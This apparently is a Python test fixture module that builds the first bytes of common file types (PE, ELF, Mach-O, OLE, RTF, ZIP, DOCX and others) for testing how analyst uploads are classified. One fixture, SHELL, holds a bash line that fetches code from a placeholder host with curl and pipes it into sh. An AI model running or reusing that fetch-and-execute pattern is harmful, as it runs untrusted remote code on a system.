"""The first bytes of the kinds of file an analyst uploads, built here rather than shipped."""

from __future__ import annotations

import io
import struct
import zipfile


def _zip(names: list[str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


# An MZ stub whose header points at "PE\0\0" at 0x80, then an i386 COFF header.
PE = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0x80) + b"\x00" * 64 + b"PE\x00\x00\x4c\x01" + b"\x00" * 250
DOS_EXE = b"MZ\x90\x00" + b"\x00" * 200
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<H", 2) + b"\x3e\x00" + b"\x00" * 100
ELF_SHARED = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<H", 3) + b"\x3e\x00" + b"\x00" * 100
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} hello}"
ZIP = _zip(["readme.txt"])
DOCX = _zip(["[Content_Types].xml", "word/document.xml"])
SHELL = b"#!/bin/bash\ncurl -s http://example.invalid/x | sh\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\n"
HTML = b"<!DOCTYPE html>\n<html><body>hi</body></html>\n"
JSON = b'{"ioc": "8.8.8.8"}\n'
LATIN1 = "Résumé des activités\n".encode("latin-1")
